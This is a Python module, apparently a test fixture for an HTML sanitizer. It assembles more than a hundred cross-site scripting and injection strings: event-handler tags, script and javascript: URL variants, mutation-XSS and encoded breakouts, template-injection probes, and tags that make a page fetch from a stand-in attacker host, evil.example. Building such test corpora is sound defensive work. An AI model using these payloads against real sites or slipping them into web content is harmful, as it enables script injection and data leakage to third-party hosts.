"""More than a hundred texts that try to run a script in a page, or to have it ask for something."""

from __future__ import annotations

_RUN = "window.hurt=1"
_ASK = "http://evil.example/"

_EVENTS = (
    "<img src=x onerror={run}>", "<svg onload={run}>", "<body onload={run}>",
    "<details open ontoggle={run}>x</details>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<video src=x onerror={run}>", "<audio src=x onerror={run}>", "<marquee onstart={run}>x",
    "<video><source onerror={run}></video>", "<object data=x onerror={run}>",
    "<style onload={run}></style>", "<iframe onload={run}></iframe>",
    "<div onpointerenter={run} style='position:fixed;inset:0'>x</div>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={run} attributename=x to=y></svg>",
    "<div style='animation:a 1s' onanimationstart={run}>x</div>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={run}>x</p>",
    "<x onclick={run} accesskey=x tabindex=1 id=x>x</x>",
)  # fmt: skip

_SCRIPTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script src={ask}x.js></script>",
    "<script type=module>{run}</script>", "<svg><script>{run}</script></svg>",
    "<script\n>{run}</script\n>", "<script/x>{run}</script>", "<scr<script>ipt>{run}</script>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "<iframe src=javascript:parent.hurt=1></iframe>", "<embed src=javascript:{run}>",
    "<object data=javascript:{run}></object>", "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>", "<form action=javascript:{run}><button>x</form>",
    "<math href=javascript:{run}>x</math>", "<svg><a xlink:href=javascript:{run}>x</a></svg>",
    "<template><script>{run}</script></template>", "<noscript><script>{run}</script></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><script>{run}</script>-->", "<![CDATA[><script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>", "<plaintext><script>{run}</script>",
)  # fmt: skip

_REQUESTS = (
    "<img src={ask}x.png>", "<img srcset='{ask}x.png 1x'>", "<picture><source srcset={ask}x>",
    "<link rel=stylesheet href={ask}x.css>", "<link rel=prefetch href={ask}x>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=icon href={ask}x.ico>",
    "<style>@import url({ask}x.css);</style>", "<style>*{background:url({ask}x)}</style>",
    "<style>@font-face{font-family:x;src:url({ask}f)}*{font-family:x}</style>",
    "<p style='background:url({ask}x)'>x</p>", "<meta http-equiv=refresh content='0;url={ask}'>",
    "<base href={ask}>", "<iframe src={ask}></iframe>", "<object data={ask}></object>",
    "<embed src={ask}>", "<video poster={ask}x.png>", "<audio src={ask}x autoplay>",
    "<form action={ask}><input autofocus>", "<a ping={ask} href={ask}>x</a>",
    "<svg><image href={ask}x></svg>", "<svg><use href={ask}x#y></svg>",
    "<table background={ask}x><tr><td>x</table>", "<input type=image src={ask}x>",
    "<track src={ask}x>", "<portal src={ask}>", "<body background={ask}x>",
)  # fmt: skip

_BREAKOUTS = (
    "</script><script>{run}</script>", "</style><script>{run}</script>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</p></article></section><script>{run}</script>", "-->\n<script>{run}</script>",
    "]]><script>{run}</script>", "\"><script>{run}</script>", "'><script>{run}</script>",
    "'\"><img src=x onerror={run}>", "` onload={run} `", "\" onmouseover={run} x=\"",
    "' onfocus={run} autofocus '", "\\\"><script>{run}</script>", "\\u003cscript\\u003e{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u2028<script>{run}</script>\u2029",
    "<\x00script>{run}</script>", "\u202e<script>{run}</script>", "{{{{7*7}}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "{{% raw %}}<script>{run}</script>",
    "<b>{run}</b>", "</div></main></body></html><script>{run}</script>",
)  # fmt: skip

ATTACKS = [
    text.replace("{run}", _RUN).replace("{ask}", _ASK).replace("{{", "{").replace("}}", "}")
    for text in (*_EVENTS, *_SCRIPTS, *_REQUESTS, *_BREAKOUTS)
]
